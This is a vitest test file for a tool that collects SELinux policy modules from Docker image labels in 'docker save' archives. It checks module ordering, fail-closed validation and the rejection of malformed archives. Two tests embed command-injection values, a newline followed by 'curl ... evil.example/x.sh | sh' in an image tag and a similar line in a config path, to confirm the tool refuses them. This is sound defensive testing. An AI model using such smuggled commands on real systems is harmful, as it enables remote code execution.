/**
 * `policy collect --archive` on `docker save` archives built in the test (R-PM3): parents found by config history,
 * modules parent first, fail closed on a bad or overwritten module, unusable archives rejected with their reason.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { loadBase } from './base.js';
import { collectFromArchive } from './collect.js';
import { encodeModule, labelKey } from './embed.js';

const base = loadBase();
const dir = mkdtempSync(join(tmpdir(), 'bw-collect-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const modules = join(import.meta.dirname, '..', '..', 'test', 'policy', 'modules');
const app = readFileSync(join(modules, 'valid-macro.cil'), 'utf8');
const web = readFileSync(join(modules, 'valid-web.cil'), 'utf8');

interface Img { tag: string; id: string; labels: Record<string, string>; history: string[] }

async function archive(name: string, images: Img[], opts: { gzip?: boolean; manifest?: unknown } = {}): Promise<string> {
  const tar = await import('tar-stream');
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
  const done = new Promise<void>((ok) => pack.on('end', () => ok()));
  for (const i of images) {
    const config = { config: { Labels: i.labels }, history: i.history.map((h, n) => ({ created: `2026-01-01T00:00:0${n}Z`, created_by: h })), rootfs: { type: 'layers', diff_ids: [] } };
    pack.entry({ name: `blobs/sha256/${i.id}` }, JSON.stringify(config));
  }
  pack.entry({ name: 'manifest.json' }, JSON.stringify('manifest' in opts ? opts.manifest : images.map((i) => ({ Config: `blobs/sha256/${i.id}`, RepoTags: [i.tag], Layers: [] }))));
  pack.finalize();
  await done;
  const file = join(dir, name);
  const buf = Buffer.concat(chunks);
  writeFileSync(file, opts.gzip ? gzipSync(buf) : buf);
  return file;
}

const parentHistory = ['ADD rootfs', `LABEL ${labelKey('app')}=…`];
const parent: Img = { tag: 'ex/parent:1', id: 'a'.repeat(64), labels: { [labelKey('app')]: encodeModule(app), other: 'x' }, history: parentHistory };
const child: Img = { tag: 'ex/child:1', id: 'b'.repeat(64), labels: { ...parent.labels, [labelKey('web')]: encodeModule(web) }, history: [...parentHistory, `LABEL ${labelKey('web')}=…`] };

describe('collect from a docker save archive', () => {
  it('parent and child: both modules, parent first, valid (gzip archive too)', async () => {
    for (const gzip of [false, true]) {
      const c = await collectFromArchive(await archive(`pc${gzip}.tar`, [child, parent], { gzip }), base);
      expect(c.image).toBe('ex/child:1');
      expect(c.id).toBe('sha256:' + 'b'.repeat(64));
      expect(c.chain).toEqual(['ex/parent:1', 'ex/child:1']);
      expect(c.modules.map((m) => [m.name, m.image, m.depth, m.valid])).toEqual([['app', 'ex/parent:1', 0, true], ['web', 'ex/child:1', 1, true]]);
      expect(c.valid).toBe(true);
    }
  });
  it('the child alone: the order comes from the LABEL steps of its history', async () => {
    const c = await collectFromArchive(await archive('c.tar', [{ ...child, labels: { [labelKey('web')]: encodeModule(web), [labelKey('app')]: encodeModule(app) } }]), base);
    expect(c.modules.map((m) => m.name)).toEqual(['app', 'web']);
  });
  it('fails closed: a label that is not a module, a module named differently from its key, an overwritten parent module', async () => {
    const bad = { ...child, labels: { ...parent.labels, [labelKey('web')]: 'bm90IGd6aXA=' } };
    const c1 = await collectFromArchive(await archive('bad.tar', [bad]), base);
    expect(c1.modules.map((m) => [m.name, m.valid, m.error])).toEqual([['app', true, undefined], ['web', false, 'the label value is not gzip data (base64 of a gzip stream expected)']]);
    expect(c1.valid).toBe(false);
    const renamed = { ...child, labels: { ...parent.labels, [labelKey('site')]: encodeModule(web) } };
    const c2 = await collectFromArchive(await archive('renamed.tar', [renamed]), base);
    expect(c2.modules.find((m) => m.name === 'site')?.error).toBe("the label key names module site but the module's block is web: each image ships its module under its own name");
    const over = { ...child, labels: { ...parent.labels, [labelKey('app')]: encodeModule(app.replace('(file (read open getattr))', '(file (read open getattr write))')) } };
    const c3 = await collectFromArchive(await archive('over.tar', [parent, over]), base);
    expect(c3.modules.map((m) => [m.name, m.valid, m.error])).toEqual([['app', false, 'the module of ex/parent:1 under io.bulwark.selinux.module.app was overwritten by ex/child:1: a child image may add its own module, never replace a parent\'s']]);
  });
  it('a label key that names no module (empty, a path) is invalid before anything is decoded (second QA round)', async () => {
    const odd = { ...child, labels: { ...parent.labels, 'io.bulwark.selinux.module.': encodeModule(web), 'io.bulwark.selinux.module.../x': encodeModule(web) } };
    const c = await collectFromArchive(await archive('odd.tar', [odd]), base);
    expect(c.modules.filter((m) => m.name !== 'app').sort((a, b) => (a.name < b.name ? -1 : 1)).map((m) => [m.name, m.valid, m.text, m.error])).toEqual([
      ['', false, undefined, 'the label key "io.bulwark.selinux.module." does not name a module: io.bulwark.selinux.module. must be followed by the module\'s block name (letters, digits, _, starting with a letter)'],
      ['../x', false, undefined, 'the label key "io.bulwark.selinux.module.../x" does not name a module: io.bulwark.selinux.module. must be followed by the module\'s block name (letters, digits, _, starting with a letter)'],
    ]);
    expect(c.valid).toBe(false);
  });
  it('refuses an archive whose RepoTags entry is not an image reference: a newline would start a command in the install plan (QA vp 1)', async () => {
    const evil = { ...parent, tag: 'example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #' };
    const f = await archive('eviltag.tar', [evil, child]);
    await expect(collectFromArchive(f, base)).rejects.toThrow(`${f}: manifest.json[0] tags the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #", which is not an image reference: refused (a tag is name[:tag] in the grammar of distribution/reference)`);
  });
  it('an untagged image is named by its id, never by the free text of its config path (QA vp 1)', async () => {
    const tar = await import('tar-stream');
    const pack = tar.pack();
    const chunks: Buffer[] = [];
    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
    const config = JSON.stringify({ config: { Labels: child.labels }, history: child.history.map((h) => ({ created_by: h })) });
    pack.entry({ name: 'cfg\ncurl x|sh #.json' }, config);
    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: 'cfg\ncurl x|sh #.json', RepoTags: null, Layers: [] }]));
    pack.finalize();
    await done;
    writeFileSync(join(dir, 'untagged.tar'), Buffer.concat(chunks));
    const c = await collectFromArchive(join(dir, 'untagged.tar'), base);
    const id = 'sha256:' + createHash('sha256').update(config).digest('hex');
    expect([c.id, c.image, c.chain, c.modules.map((m) => m.image)]).toEqual([id, id.slice(7, 19), [id.slice(7, 19)], [id.slice(7, 19), id.slice(7, 19)]]);
  });
  it('an image without module labels is not valid (nothing to install)', async () => {
    const c = await collectFromArchive(await archive('none.tar', [{ ...parent, labels: {} }]), base);
    expect([c.modules, c.valid]).toEqual([[], false]);
  });
  it('unusable archives: not a tar, no manifest, a missing config, an unknown tag, unrelated images', async () => {
    const notTar = join(dir, 'not.tar');
    writeFileSync(notTar, 'hello'.repeat(200));
    await expect(collectFromArchive(notTar, base)).rejects.toThrow(`${notTar}: not a docker save archive (Invalid tar header. Maybe the tar is corrupted or it needs to be gunzipped?)`);
    const noManifest = await archive('nomanifest.tar', [parent], { manifest: null });
    await expect(collectFromArchive(noManifest, base)).rejects.toThrow(`${noManifest}: manifest.json is not valid: not an array`);
    await expect(collectFromArchive(join(dir, 'missing.tar'), base)).rejects.toThrow(`cannot read ${join(dir, 'missing.tar')}: ENOENT`);
    const noConfig = await archive('nocfg.tar', [parent], { manifest: [{ Config: 'blobs/sha256/' + 'c'.repeat(64), RepoTags: ['x:1'] }] });
    await expect(collectFromArchive(noConfig, base)).rejects.toThrow(`${noConfig}: manifest.json names the config blobs/sha256/${'c'.repeat(64)}, which is not in the archive`);
    const pc = await archive('pc2.tar', [parent, child]);
    await expect(collectFromArchive(pc, base, 'ex/nope:1')).rejects.toThrow(`${pc}: no image ex/nope:1 in the archive (found: ex/parent:1, ex/child:1)`);
    const other: Img = { tag: 'ex/other:1', id: 'd'.repeat(64), labels: {}, history: ['ADD other'] };
    const two = await archive('two.tar', [parent, other]);
    await expect(collectFromArchive(two, base)).rejects.toThrow(`${two} holds 2 unrelated images: name one (ex/parent:1, ex/other:1)`);
  });
});
